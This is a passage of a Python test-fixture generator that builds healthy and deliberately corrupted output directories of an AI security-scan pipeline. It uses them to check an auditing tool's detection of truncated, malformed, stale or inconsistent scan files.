    ds_name = "dataset.json"
    if sc.enhance:
        enh, ecps, esum, estep, eu = build_enhance(sc, dataset)
        sc.pj("dataset_enhanced.json", enh)
        if not legacy and sc.checkpoint_dirs:
            edir = "dataset_enhanced_checkpoint_checkpoints" if fork and sc.fork_enhance_dir else "enhance_checkpoints"
            for name, cp in ecps.items():
                sc.pj(edir + "/" + name, cp)
            sc.pj(edir + "/_summary.json", esum)
        r = step_report("enhance", utc_z(t + 60, 5), 338.61, eu[2], eu[0], eu[1], estep,
                        {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json"),
                         "repo_path": sc.repo_path, "mode": "agentic"},
                        {"enhanced_dataset_path": sc.p("dataset_enhanced.json")})
        sc.pj("enhance.report.json", r)
        reports.append(r)
        analyze_input = enh
        ds_name = "dataset_enhanced.json"
    else:
        skipped.append("enhance")
    res, acps, asum, astep, au = build_analyze(sc, analyze_input, ds_name)
    sc.pj("results.json", res)
    if not legacy and sc.checkpoint_dirs:
        for name, cp in acps.items():
            sc.pj("analyze_checkpoints/" + name, cp)
        sc.pj("analyze_checkpoints/_summary.json", asum)
    r = step_report("analyze", utc_z(t + 400, 77), 1099.35, au[2], au[0], au[1], astep,
                    {"dataset_path": sc.p(ds_name), "model": sc.model, "limit": None},
                    {"results_path": sc.p("results.json")})
    sc.pj("analyze.report.json", r)
    reports.append(r)
    has_findings = astep["verdicts"]["vulnerable"] > 0 or astep["verdicts"]["bypassable"] > 0
    experiment = res
    results_path = sc.p("results.json")
    verified = None
    vstep = None
    if sc.verify and has_findings:
        verified, vcps, vsum, vstep, vu, expl = build_verify(sc, res)
        sc.pj("results_verified.json", verified, ensure_ascii=(fork or False) if not legacy else False)
        if fork:
            sc.put("results_verified.json", py_json(verified, ensure_ascii=True, crlf=sc.crlf))
            for rk, (route_key, v) in expl.items():
                import re
                sc.put("verify_explanations/%s.md" % re.sub(r'[\\/:*?"<>|]', "_", route_key),
                       text(explanation_md(route_key, v), sc.crlf, sc.md_encoding))
        if not legacy and sc.checkpoint_dirs:
            for name, cp in vcps.items():
                sc.pj("verify_checkpoints/" + name, cp)
            sc.pj("verify_checkpoints/_summary.json", vsum)
        r = step_report("verify", utc_z(t + 1501, 4), 1093.7, vu[2], vu[0], vu[1], vstep,
                        {"results_path": sc.p("results.json"), "analyzer_output_path": sc.p("analyzer_output.json")},
                        {"verified_results_path": sc.p("results_verified.json")})
        sc.pj("verify.report.json", r)
        reports.append(r)
        experiment = verified
        results_path = sc.p("results_verified.json")
    else:
        skipped.append("verify")
    diff_block = diff_block_of(sc.diff[0], sc.diff[1]) if sc.diff else None
    po = build_pipeline_output(sc, experiment, None if legacy else call_graph, reports, app_type, diff_block)
    sc.pj("pipeline_output.json", po, ensure_ascii=False)
    r = step_report("build-output", utc_z(t + 2700, 9), 0.31, 0.0, 0, 0, {}, {"results_path": results_path},
                    {"pipeline_output_path": sc.p("pipeline_output.json")})
    sc.pj("build-output.report.json", r)
    reports.append(r)
    dyn_path = None
    if sc.dynamic and has_findings and po["findings"]:
        dres, dcps, dsum, dstep, dmd, du = build_dynamic(sc, po)
        sc.pj("dynamic_test_results.json", dres, ensure_ascii=False)
        sc.put("DYNAMIC_TEST_RESULTS.md", text(dmd, sc.crlf, sc.md_encoding))
        if not legacy and sc.checkpoint_dirs:
            for name, cp in dcps.items():
                sc.pj("dynamic_test_checkpoints/" + name, cp)
            sc.pj("dynamic_test_checkpoints/_summary.json", dsum)
        dyn_path = sc.p("dynamic_test_results.json")
        r = step_report("dynamic-test", utc_z(t + 2701, 120), 1184.52, du[2], du[0], du[1], dstep,
                        {"pipeline_output_path": sc.p("pipeline_output.json")},
                        {"results_json_path": dyn_path, "results_md_path": None})
        sc.pj("dynamic-test.report.json", r)
        reports.append(r)
    else:
        skipped.append("dynamic-test")
    summary_path = None
    if sc.report:
        outputs = {}
        sc.put("report/SUMMARY_REPORT.md", text(summary_md(sc, po), sc.crlf, sc.md_encoding))
        summary_path = sc.p("report/SUMMARY_REPORT.md")
        outputs["summary_path"] = summary_path
        if has_findings:
            for i, f in enumerate(po["findings"], 1):
                sc.put("report/disclosures/DISCLOSURE_%02d_%s.md" % (i, f["short_name"].replace(" ", "_").upper()),
                       text(disclosure_md(f), sc.crlf, sc.md_encoding))
            outputs["disclosures_dir"] = sc.p("report/disclosures")
        r = step_report("report", utc_z(t + 3900, 42), 212.9, 0.734115, 31022, 3581,
                        {"formats_generated": list(outputs.keys())}, {"pipeline_output_path": sc.p("pipeline_output.json")},
                        outputs)
        sc.pj("report.report.json", r)
        reports.append(r)
    else:
        skipped.append("report")
    # scan.report.json (spec §3.6)
    a = astep["verdicts"]
    m = {"total": astep["total_units"], "vulnerable": a["vulnerable"], "bypassable": a["bypassable"],
         "inconclusive": a["inconclusive"], "protected": a["protected"], "safe": a["safe"], "errors": a["errors"],
         "verified": 0, "stage2_agreed": 0, "stage2_disagreed": 0}
    if vstep:
        m["vulnerable"] = vstep["confirmed_vulnerabilities"]
        m["bypassable"] = 0
        m["safe"] = a["safe"] + vstep["disagreed"]
        m["verified"] = vstep["findings_verified"]
        m["stage2_agreed"] = vstep["agreed"]
        m["stage2_disagreed"] = vstep["disagreed"]
    summ = {"units_count": len(dataset["units"]), "language": sc.lang, "metrics": m,
            "steps_completed": [x.get("step") for x in reports], "steps_skipped": skipped}
    if fork:
        summ["steps_resumed"] = ["parse", "app-context", "enhance"]
    tc = sum(x.get("cost_usd", 0) for x in reports)
    td = sum(x.get("duration_seconds", 0) for x in reports)
    ti = sum(x["token_usage"]["input_tokens"] for x in reports)
    to = sum(x["token_usage"]["output_tokens"] for x in reports)
    r = {"step": "scan", "status": "success", "timestamp": utc_z(t + 4200, 15),
         "duration_seconds": round(td, 2), "cost_usd": round(tc, 6),
         "token_usage": {"input_tokens": ti, "output_tokens": to, "total_tokens": ti + to},
         "summary": summ, "inputs": {"repo_path": sc.out_dir},
         "outputs": {"dataset_path": sc.p("dataset.json"),
                     "enhanced_dataset_path": sc.p("dataset_enhanced.json") if sc.enhance else None,
                     "results_path": sc.p("results.json"),
                     "verified_results_path": sc.p("results_verified.json") if vstep else None,
                     "pipeline_output_path": sc.p("pipeline_output.json"),
                     "summary_path": summary_path, "dynamic_test_path": dyn_path},
         "errors": []}
    sc.pj("scan.report.json", r)
    return sc


# ---------------------------------------------------------------------------------------------
# Projects (Go files) and writing
# ---------------------------------------------------------------------------------------------


def project_json(name, repo_path, lang, sha, created, url=None):
    d = {"name": name}
    if url:
        d["repo_url"] = url
    d["repo_path"] = repo_path
    d["source"] = "remote" if url else "local"
    d["language"] = lang
    d["commit_sha"] = sha
    d["commit_sha_short"] = sha[:11]
    d["created_at"] = created
    return d


def meta_json(kind, sha, started, finished, lang, branch="main", status="success", base=None, scope=None):
    d = {"kind": kind, "commit": sha}
    if branch:
        d["branch"] = branch
    d["started_at"] = started
    if finished:
        d["finished_at"] = finished
    d["status"] = status
    d["language"] = lang
    if base:
        d["base"] = base
    if scope:
        d["scope"] = scope
    return d


def write_files(base, files):
    for rel in sorted(files):
        p = Path(base) / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        with open(p, "wb") as f:
            f.write(files[rel])


def sha40(rng):
    return "".join(rng.choice("0123456789abcdef") for _ in range(40))


def project_scan(root, name, sc_kwargs, units, sha, lang="python", url=None, meta=True, kind="full",
                 project=True, diff=None, era="fix", start="2026-05-14T09:00:00", write_project=True,
                 status="success", branch="main", prelang=False):
    """Build one project scan at root/<name>/scans/<sha11>/<lang>/ (or scans/<sha11>/ itself when
    prelang: before 3b9ceeb).  Returns (Scan, scan_dir)."""
    short = sha if sha == "nogit" else sha[:11]
    proj_dir = Path(root) / name
    run_dir = proj_dir / "scans" / short
    scan_dir = run_dir if prelang else run_dir / lang
    home_scan = "%s/projects/%s/scans/%s/%s" % (OPENANT_HOME, name, short, lang)
    repo_path = "%s/projects/%s/repo" % (OPENANT_HOME, name) if url else "/home/dev/src/%s" % name.split("/")[-1]
    kw = dict(out_dir=home_scan, repo_path=repo_path, repo_name=name, repo_url=url or "",
              commit=sha, lang=lang, era=era, start=start, diff=diff)
    kw.update(sc_kwargs)
    sc = Scan(name, units, **kw)
    build_scan(sc)
    write_files(scan_dir, sc.files)
    t0 = T(start)
    if write_project:
        pj = project_json(name, repo_path, lang, sha, rfc3339(t0 - 600), url=url)
        (proj_dir).mkdir(parents=True, exist_ok=True)
        (proj_dir / "project.json").write_bytes(go_json(pj))
    if meta:
        mj = meta_json(kind, sha, rfc3339(t0 - 5), rfc3339(t0 + 4201) if status != "running" else None, lang,
                       branch=branch, status=status,
                       base=diff[0]["base_sha"] if diff else None, scope=diff[0]["scope"] if diff else None)
        (run_dir / "meta.json").write_bytes(go_json(mj))
    return sc, scan_dir


# ---------------------------------------------------------------------------------------------
# The healthy tree
# ---------------------------------------------------------------------------------------------


def storefront_diff():
    manifest = {"base_ref": "origin/main", "base_sha": "4be1c0de9a8f7e6d5c4b3a291807f6e5d4c3b2a1",
                "head_sha": "9f8e7d6c5b4a39281706f5e4d3c2b1a0fedcba98", "scope": "changed_functions",
                "pr_number": 482,
                "changed_files": ["docs/Q&A <draft>.md", "src/lib/format.js", "src/lib/merge.js", "src/routes/admin.js", "src/routes/health.js",
                                  "src/routes/orders.js", "src/routes/search.js"],
                "hunks": {"src/lib/format.js": [[1, 6]], "src/lib/merge.js": [[3, 9]],
                          "src/routes/admin.js": [[12, 20]], "src/routes/health.js": [[40, 42]],
                          "src/routes/orders.js": [[5, 11], [30, 31]], "src/routes/search.js": [[7, 12]]}}
    stats = {"total": 10, "selected": 6, "scope": "changed_functions", "base_ref": "origin/main",
             "base_sha": manifest["base_sha"], "head_sha": manifest["head_sha"], "pr_number": 482,
             "changed_files": 7, "fallback_file_match": 1, "callers_added": 1}
    return manifest, stats


def gen_healthy(root):
    P = Path(root) / "projects"
    rng = random.Random(20260514)
    out = {}
    # 1. acme-webapp, fix branch, full scan with --verify and dynamic tests (restored run)
    sha_a = "3f9c2e1b7a64d05e8c1f2a3b4c5d6e7f80912abc"
    out["acme"] = project_scan(P, "acme-webapp", dict(seed=11), acme_units("a"), sha_a,
                               url="https://github.com/acme/acme-webapp", start="2026-05-14T09:00:00")
    # 5b. a second acme scan at another commit: fresh (not restored) run
    sha_b = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
    out["acme2"] = project_scan(P, "acme-webapp", dict(seed=12, restored=False, consistency_update=True),
                                acme_units("b"), sha_b, url="https://github.com/acme/acme-webapp",
                                start="2026-05-15T14:30:00", write_project=False)
    # 2. widgets/storefront: javascript incremental diff scan
    sha_s = "9f8e7d6c5b4a39281706f5e4d3c2b1a0fedcba98"
    out["storefront"] = project_scan(P, "widgets/storefront", dict(seed=21, verify=False, dynamic=False),
                                     storefront_units(), sha_s, lang="javascript",
                                     url="https://github.com/widgets/storefront", kind="diff",
                                     diff=storefront_diff(), start="2026-05-13T16:05:00", branch="feature/pr-482")
    # 3. legacy-tool: upstream between 3b9ceeb and d710b90 (language level, no checkpoints, no meta)
    sha_l = "0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e"
    out["legacy"] = project_scan(P, "legacy-tool", dict(seed=31, level="all"), legacy_units(), sha_l, era="legacy",
                                 meta=False, start="2026-03-02T10:00:00")
    # 4. forkproj: fork master line
    sha_f = "5c3855e0a1b2c3d4e5f60718293a4b5c6d7e8f90"
    # (its enhance checkpoints in enhance_checkpoints/, as `scanaudit migrate` leaves them: the
    # fork's own dir name is a legacy-layout finding, see legacy/)
    out["fork"] = project_scan(P, "forkproj", dict(seed=41, model="sonnet", fork_enhance_dir=False), fork_units(),
                               sha_f, era="fork", meta=False, start="2026-04-29T08:00:00")
    # 5c. a local non-git project: scans/nogit/
    out["nogit"] = project_scan(P, "scratchpad", dict(seed=51, verify=False, dynamic=False),
                                small_units("go", "cmd/server", 6), "nogit", lang="go",
                                start="2026-05-14T18:00:00", branch=None)
    # 5a. ad-hoc scan dir (python CLI without --output): no meta.json, no project.json
    adhoc = Path(root) / "open_ant_k2j3h4x9"
    sc = Scan("adhoc", small_units("python", "toolbox", 7), lang="python", seed=61, start="2026-05-14T20:00:00",
              verify=False, dynamic=False, context=False, report=False, out_dir="/tmp/open_ant_k2j3h4x9",
              repo_path="/home/dev/src/toolbox", repo_name="toolbox", repo_url="", commit=None)
    build_scan(sc)
    write_files(adhoc, sc.files)
    out["adhoc"] = (sc, adhoc)
    return out


# ---------------------------------------------------------------------------------------------
# The damaged tree
# ---------------------------------------------------------------------------------------------


class Damage:
    def __init__(self, root):
        self.root = Path(root)
        self.findings = []
        self.originals = {}   # rel path -> original bytes (for the self-check)

    def rel(self, p):
        return str(Path(p).relative_to(self.root))

    def add(self, p, kind, file_kind, offset):
        self.findings.append({"path": self.rel(p), "kind": kind, "file_kind": file_kind, "offset": offset})

    def cross(self, p, kind, file_kind, level, fix, scan_dir):
        """A cross-file finding (scanaudit's consistency rules): `fix` may hold {scan_dir}, the
        scan dir relative to the tree root, which the test replaces with the real path."""
        self.findings.append({"path": self.rel(p), "kind": kind, "file_kind": file_kind, "offset": None,
                              "level": level, "fix": fix, "scan_dir": self.rel(scan_dir)})

    # -- damage primitives (each leaves exactly one per-file finding) --
    def empty(self, p, fk, content=b""):
        self.originals[self.rel(p)] = Path(p).read_bytes()
        Path(p).write_bytes(content)
        self.add(p, "empty", fk, 0)

    def truncate(self, p, fk, at):
        data = Path(p).read_bytes()
        self.originals[self.rel(p)] = data
        assert 0 < at < len(data)
        Path(p).write_bytes(data[:at])
        self.add(p, "truncated", fk, at)

    def zero_fill(self, p, fk, keep):
        data = Path(p).read_bytes()
        self.originals[self.rel(p)] = data
        Path(p).write_bytes(data[:keep] + b"\0" * (len(data) - keep))
        self.add(p, "zero-filled", fk, keep)

    def corrupt(self, p, fk, data, offset):
        self.originals[self.rel(p)] = Path(p).read_bytes()
        Path(p).write_bytes(data)
        self.add(p, "corrupt", fk, offset)

    def replace_json(self, p, fk, kind, obj, ensure_ascii=True):
        self.originals[self.rel(p)] = Path(p).read_bytes()
        Path(p).write_bytes(py_json(obj, ensure_ascii=ensure_ascii))
        self.add(p, kind, fk, None)


def small_scan(P, name, seed, units=None, era="fix", start="2026-05-20T09:00:00", sha=None, **kw):
    rng = random.Random(seed)
    sha = sha or sha40(rng)
    units = units or small_units("python", "app", 7)
    return project_scan(P, name, dict(seed=seed, **kw), units, sha, era=era, start=start,
                        meta=(era == "fix"), url=None)


def gen_damaged(root):
    root = Path(root)
    P = root / "projects"
    D = Damage(root)
    rng = random.Random(1337)

    # ---- empty --------------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-empty", 101)
    D.empty(d / "analyze_checkpoints/_summary.json", "checkpoint-summary")
    D.empty(d / "analyze_checkpoints" / (safe_filename("app/util.py:normalize") + ".json"), "checkpoint")
    D.empty(d / "results.json", "results")
    D.empty(d / "application_context.json", "application-context", content=b"\n  \n\t\n")

    # ---- truncated ----------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-truncation", 102, units=small_units("python", "app", 8, big_unit=True))
    p = d / "results.json"
    n = len(p.read_bytes())
    D.truncate(p, "results", rng.randint(n // 4, 3 * n // 4))
    p = d / "dataset_enhanced.json"
    data = p.read_bytes()
    i = data.index(b'"primary_code": "') + len(b'"primary_code": "') + 25   # inside the code string
    D.truncate(p, "dataset-enhanced", i)
    p = d / "results_verified.json"            # ensure_ascii=False: raw UTF-8
    data = p.read_bytes()
    i = data.index("é".encode()) + 1            # between the two bytes of é (C3 A9)
    D.truncate(p, "results-verified", i)
    p = d / "analyze_checkpoints" / (safe_filename("app/engine.py:Engine.process_batch") + ".json")
    data = p.read_bytes()
    assert len(data) > 8192
    # torn after the 8+ KB of embedded code, in the middle of a number token ("input_tokens": 65|43)
    i = data.rindex(b'"input_tokens": ') + len(b'"input_tokens": ') + 2
    assert i > 8192 and data[i - 1:i + 1].isdigit()
    D.truncate(p, "checkpoint", i)

    # ---- zero-filled --------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-zero-filled", 103)
    p = d / "analyze_checkpoints" / (safe_filename("app/auth.py:check_token") + ".json")
    D.zero_fill(p, "checkpoint", 0)
    p = d / "pipeline_output.json"
    n = len(p.read_bytes())
    D.zero_fill(p, "pipeline-output", 4096 if n > 8192 else n // 2)

    # ---- corrupt ------------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-corrupt", 104)
    p = d / "dataset.json"
    data = p.read_bytes()
    garbage = b'\n  }\n}ed": true\n    }\n  ]\n}'
    D.corrupt(p, "dataset", data + garbage, len(data) + 1 + 2)   # whitespace "\n  " skipped
    p = d / "enhance.report.json"
    data = p.read_bytes()
    D.corrupt(p, "step-report", data + data, len(data))         # a double write
    p = d / "application_context.json"
    data = p.read_bytes()
    D.corrupt(p, "application-context", b"\xef\xbb\xbf" + data, 0)
    p = d / "call_graph.json"
    data = bytearray(p.read_bytes())
    i = data.index(b'"reverse_call_graph": {') + len(b'"reverse_call_graph"')   # the ':' after a key
    assert data[i:i + 1] == b":"
    data[i] = ord(";")
    D.corrupt(p, "call-graph", bytes(data), i)

    # ---- invalid-utf8 -------------------------------------------------------------------------
    # (a) a Windows-era scan (pre-3cdca87: locale cp1252, text-mode CRLF).  Units carry only
    #     cp1252-encodable non-ASCII; the ensure_ascii=False files hold cp1252 bytes.
    win_units = small_units("python", "app", 6, extra_nonascii=True)
    sc, d = small_scan(P, "damaged-invalid-utf8", 105, units=win_units, crlf=True, encoding="cp1252",
                       start="2026-05-05T09:00:00")
    for rel, fk in (("results_verified.json", "results-verified"), ("pipeline_output.json", "pipeline-output"),
                    ("dynamic_test_results.json", "dynamic-test-results")):
        p = d / rel
        data = p.read_bytes()
        try:
            data.decode("utf-8")
        except UnicodeDecodeError as e:
            D.add(p, "invalid-utf8", fk, e.start)
            D.originals[D.rel(p)] = None
            # cp1252 where OpenAnt now writes UTF-8: an old format migrate upgrades
            D.cross(p, "legacy-layout", fk, "warn", MIGRATE_FIX, d)
    # (b) a stray 0xFF inside a string of an otherwise fine UTF-8 scan
    sc, d = small_scan(P, "damaged-invalid-utf8", 106, start="2026-05-21T09:00:00")
    p = d / "results.json"
    data = p.read_bytes()
    i = data.index(b'"reasoning": "') + len(b'"reasoning": "') + 4
    D.originals[D.rel(p)] = data
    p.write_bytes(data[:i] + b"\xff" + data[i:])
    D.add(p, "invalid-utf8", "results", i)

    # ---- schema -------------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-schema", 107)
    p = d / "results.json"
    obj = json.loads(p.read_bytes())
    obj["results"] = {r["unit_id"]: r for r in obj["results"]}
    D.replace_json(p, "results", "schema", obj)
    p = d / "analyze.report.json"
    obj = json.loads(p.read_bytes())
    del obj["status"]
    D.replace_json(p, "step-report", "schema", obj)
    p = d / "verify_checkpoints/_summary.json"
    obj = json.loads(p.read_bytes())
    obj["phase"] = 3
    D.replace_json(p, "checkpoint-summary", "schema", obj)
    p = d / "analyze_checkpoints" / (safe_filename("app/config.py:load") + ".json")
    obj = json.loads(p.read_bytes())
    del obj["result"]
    D.replace_json(p, "checkpoint", "schema", obj)
    p = d / "pipeline_output.json"
    obj = json.loads(p.read_bytes())
    del obj["findings"][0]["stage2_verdict"]
    D.replace_json(p, "pipeline-output", "schema", obj, ensure_ascii=False)
    p = d / "dataset.json"
    obj = json.loads(p.read_bytes())
    del obj["units"]
    D.replace_json(p, "dataset", "schema", obj)

    # ---- checkpoint-missing-id ----------------------------------------------------------------
    sc, d = small_scan(P, "damaged-checkpoint-id", 108)
    p = d / "analyze_checkpoints" / (safe_filename("app/views.py:show_page") + ".json")
    obj = json.loads(p.read_bytes())
    del obj["id"]
    D.replace_json(p, "checkpoint", "checkpoint-missing-id", obj)

    # ---- checkpoint-name-mismatch -------------------------------------------------------------
    units = small_units("python", "app", 7)
    long_id = ("app/integrations/partners/enterprise_resource_planning/adapters/legacy_soap_bridge/v3/"
               "transformers/outbound/purchase_orders/line_items/normalisation/pipeline/stages/"
               "currency.py:CurrencyNormalisationStage.convert_line_item_amounts_to_base_currency")
    units.append(U(long_id, "safe", "safe", unit_type="method", cls="CurrencyNormalisationStage", args="self, item"))
    sc, d = small_scan(P, "damaged-checkpoint-name", 109, units=units)
    assert len(long_id.replace("/", "__").replace(":", "_")) > 233
    cpd = d / "enhance_checkpoints"
    src = cpd / (safe_filename("app/util.py:normalize") + ".json")
    dst = cpd / (safe_filename("app/config.py:load") + ".json")
    D.originals[D.rel(dst)] = dst.read_bytes()
    shutil.copyfile(src, dst)                  # copied under another unit's name
    D.add(dst, "checkpoint-name-mismatch", "checkpoint", None)
    cpd = d / "analyze_checkpoints"
    good = cpd / (safe_filename(long_id) + ".json")
    bad = cpd / (long_id.replace("/", "__").replace(":", "_")[:250] + ".json")   # plain truncation, no hash
    good.rename(bad)
    D.add(bad, "checkpoint-name-mismatch", "checkpoint", None)

    # ---- stray-temp ---------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-temps", 110)
    run_dir = d.parent
    res = (d / "results.json").read_bytes()
    (d / "results.json").unlink()              # target missing, complete temp beside it (salvageable)
    D.cross(d / "results.json", "output-missing", "results", "error", "scanaudit repair {scan_dir}", d)
    (d / ".tmp-results.json-k3j_a9xq.json").write_bytes(res)
    D.add(d / ".tmp-results.json-k3j_a9xq.json", "stray-temp", "temp", None)
    enh = (d / "dataset_enhanced.json").read_bytes()
    (d / ".tmp-dataset_enhanced.json-ab12cd34.json").write_bytes(enh[:len(enh) * 2 // 3])
    D.add(d / ".tmp-dataset_enhanced.json-ab12cd34.json", "stray-temp", "temp", None)
    meta = (run_dir / "meta.json").read_bytes()
    (run_dir / "meta.json.tmp.48213").write_bytes(meta.replace(b'"success"', b'"running"'))
    D.add(run_dir / "meta.json.tmp.48213", "stray-temp", "temp", None)
    (d / ".tmpAb3dE9").write_bytes(res[:4096])
    D.add(d / ".tmpAb3dE9", "stray-temp", "temp", None)
    po = (d / "pipeline_output.json").read_bytes()
    (d / ".pipeline_output.json.Xy12Ab").write_bytes(po)
    D.add(d / ".pipeline_output.json.Xy12Ab", "stray-temp", "temp", None)
    (d / ".atomicwrite8ldufS").mkdir()
    (d / ".atomicwrite8ldufS/tmpfile.tmp").write_bytes(po[:1000])
    D.add(d / ".atomicwrite8ldufS", "stray-temp", "temp", None)
    rv = (d / "results_verified.json").read_bytes()
    (d / ".results_verified.json.scanaudit-Ab12Cd.tmp").write_bytes(rv)
    D.add(d / ".results_verified.json.scanaudit-Ab12Cd.tmp", "stray-temp", "temp", None)
    # the fork's mkstemp(suffix=".tmp") beside a fork-layout results_verified.json
    sc, d = small_scan(P, "damaged-temps", 111, era="fork", start="2026-04-29T12:00:00", model="sonnet")
    (d / "tmpk3j_a9xq.tmp").write_bytes((d / "results_verified.json").read_bytes())
    D.add(d / "tmpk3j_a9xq.tmp", "stray-temp", "temp", None)
    D.cross(d / "dataset_enhanced_checkpoint_checkpoints", "legacy-layout", "directory", "warn",
            MIGRATE_FIX, d)

    # ---- backup -------------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-backup", 112)
    cur = (d / "results.json").read_bytes()
    torn = cur[:len(cur) // 3]
    bdir = d / ".scanaudit/backups/20261101T101010Z"
    bdir.mkdir(parents=True)
    (bdir / "results.json").write_bytes(torn)
    manifest = {"entries": [{"path": "results.json", "action": "regenerate", "reason": "truncated",
                             "old_sha256": hashlib.sha256(torn).hexdigest(),
                             "new_sha256": hashlib.sha256(cur).hexdigest(),
                             "bytes": len(torn), "backed_up_at": "2026-11-01T10:10:10Z"}]}
    (bdir / "manifest.json").write_bytes((json.dumps(manifest, indent=2) + "\n").encode())
    D.add(bdir, "backup", "backup", None)

    # ---- generic JSON outside any scan dir ----------------------------------------------------
    notes = P / "notes"
    notes.mkdir(parents=True)
    ok = {"title": "Triage notes", "owner": "sec-team", "items": [{"id": 1, "text": "re-run verify on acme"},
                                                                   {"id": 2, "text": "clean temp files — weekly"}]}
    (notes / "ok.json").write_bytes(py_json(ok, ensure_ascii=False))
    full = py_json(ok, ensure_ascii=False)
    D.originals[D.rel(notes / "broken.json")] = full
    (notes / "broken.json").write_bytes(full[:len(full) - 30])
    D.add(notes / "broken.json", "truncated", "generic-json", len(full) - 30)

    # ---- symlink ------------------------------------------------------------------------------
    sc, d = small_scan(P, "damaged-symlink", 113)
    link = d / "link-to-results.json"
    target = os.path.relpath(OUTSIDE, d)
    os.symlink(target, link)
    D.add(link, "symlink", "symlink", None)

    gen_consistency(P, D)
    gen_current_damaged(P, D)

    D.findings.sort(key=lambda f: (f["path"], f["kind"]))
    return D


def load(p):
    return json.loads(Path(p).read_bytes())


def dump(p, obj, ensure_ascii=True):
    Path(p).write_bytes(py_json(obj, ensure_ascii=ensure_ascii))


def gen_consistency(P, D):
    """Scans whose every file is valid but which are wrong for their scan: one project per
    cross-file rule (spec §2.4, §2.7, §9). Each is a healthy small scan, then edited the way the
    failure it stands for would leave it."""
    # output-missing: verify finished (summary done, step report) but results_verified.json is gone
    sc, d = small_scan(P, "consistency-output-missing", 201)
    (d / "results_verified.json").unlink()
    D.cross(d / "results_verified.json", "output-missing", "results-verified", "error",
            "scanaudit repair {scan_dir}", d)
    # output-missing: step reports but no scan.report.json (the scan never finished)
    sc, d = small_scan(P, "consistency-scan-unfinished", 202)
    (d / "scan.report.json").unlink()
    D.cross(d / "scan.report.json", "output-missing", "step-report", "warn", "openant scan", d)
    # output-stale: results.json's unit set disagrees with analyze_checkpoints (a result under an
    # id no checkpoint has, and the checkpointed unit missing): a results.json of another parse
    sc, d = small_scan(P, "consistency-output-stale", 203)
    res = load(d / "results.json")
    for r in res["results"]:
        if r["unit_id"] == "app/util.py:normalize":
            r["unit_id"] = "app/util.py:normalise"
    dump(d / "results.json", res)
    # The checkpointed unit missing from results.json: repair rebuilds it in.
    D.cross(d / "results.json", "output-stale", "results", "error", "scanaudit repair {scan_dir}", d)
    # The result with no checkpoint: a rebuild would drop it, only a re-run redoes it.
    D.cross(d / "results.json", "run-incomplete", "results", "warn", "openant analyze", d)
    # output-stale by age (§2.7, interrupted analyze: summary done, results.json from an earlier
    # run). Git keeps no mtimes: tests/it/consistency.rs ages results.json; with uniform ages this
    # scan is clean, so it is not in expected/damaged.json.
    sc, d = small_scan(P, "consistency-output-stale-age", 204)
    res = load(d / "results.json")
    res["timestamp"] = "2026-05-19T08:12:40.118822"
    dump(d / "results.json", res)
    # run-incomplete: dynamic-test done, but one finding's checkpoint is gone
    sc, d = small_scan(P, "consistency-run-incomplete", 205)
    (d / "dynamic_test_checkpoints" / "VULN-002.json").unlink()
    D.cross(d / "dynamic_test_checkpoints", "run-incomplete", "directory", "warn", "openant dynamic-test", d)
    # run-interrupted: enhance interrupted (§2.7: output written anyway, summary in_progress)
    sc, d = small_scan(P, "consistency-run-interrupted", 206)
    summ = load(d / "enhance_checkpoints/_summary.json")
    summ["phase"] = "in_progress"
    dump(d / "enhance_checkpoints/_summary.json", summ)
    enh = load(d / "dataset_enhanced.json")
    for k in ("agentic_enhanced", "enhancement_mode", "agentic_stats", "token_usage"):
        enh["metadata"].pop(k, None)
    dump(d / "dataset_enhanced.json", enh)
    D.cross(d / "enhance_checkpoints", "run-interrupted", "directory", "warn", "openant enhance", d)
    # metrics-mismatch: a counter off by one in results.json; a finding dropped from
    # results_verified.json confirmed_findings
    sc, d = small_scan(P, "consistency-metrics", 207)
    res = load(d / "results.json")
    res["metrics"]["safe"] += 1
    dump(d / "results.json", res)
    D.cross(d / "results.json", "metrics-mismatch", "results", "error", "scanaudit repair {scan_dir}", d)
    rv = load(d / "results_verified.json")
    rv["confirmed_findings"] = rv["confirmed_findings"][:-1]
    dump(d / "results_verified.json", rv, ensure_ascii=False)
    D.cross(d / "results_verified.json", "metrics-mismatch", "results-verified", "error",
            "scanaudit repair {scan_dir}", d)
    # unverified-finding (+ run-incomplete): verify cut short (§2.7): one candidate never verified,
    # no checkpoint for it, phase done anyway
    sc, d = small_scan(P, "consistency-unverified", 208)
    rv = load(d / "results_verified.json")
    for coll in (rv["results"], rv["confirmed_findings"]):
        for r in coll:
            if r["unit_id"] == "app/views.py:show_page":
                r.pop("verification", None)
                r.pop("verification_note", None)
    dump(d / "results_verified.json", rv, ensure_ascii=False)
    (d / "verify_checkpoints" / (safe_filename("app/views.py:show_page") + ".json")).unlink()
    D.cross(d / "results_verified.json", "unverified-finding", "results-verified", "warn", "openant verify", d)
    D.cross(d / "verify_checkpoints", "run-incomplete", "directory", "warn", "openant verify", d)
    # finding-id-gap: pipeline_output ids not VULN-001..N (no dynamic tests in this scan)
    sc, d = small_scan(P, "consistency-finding-ids", 209, dynamic=False)
    po = load(d / "pipeline_output.json")
    assert len(po["findings"]) >= 2
    po["findings"][1]["id"] = "VULN-003"
    dump(d / "pipeline_output.json", po, ensure_ascii=False)
    D.cross(d / "pipeline_output.json", "finding-id-gap", "pipeline-output", "error",
            "scanaudit repair {scan_dir}", d)
    # dynamic-mismatch: pipeline_output rebuilt with one finding fewer after dynamic-test ran:
    # dynamic_test_results and the VULN-keyed checkpoints now disagree with it
    sc, d = small_scan(P, "consistency-dynamic", 210)
    po = load(d / "pipeline_output.json")
    po["findings"] = po["findings"][:-1]
    po["results"]["vulnerable"] -= 1
    dump(d / "pipeline_output.json", po, ensure_ascii=False)
    D.cross(d / "dynamic_test_results.json", "dynamic-mismatch", "dynamic-test-results", "error",
            "openant dynamic-test", d)
    D.cross(d / "dynamic_test_checkpoints", "dynamic-mismatch", "directory", "error", "openant dynamic-test", d)
    # stale-checkpoint: an analyze checkpoint of a unit an earlier parse had
    sc, d = small_scan(P, "consistency-stale-checkpoint", 211)
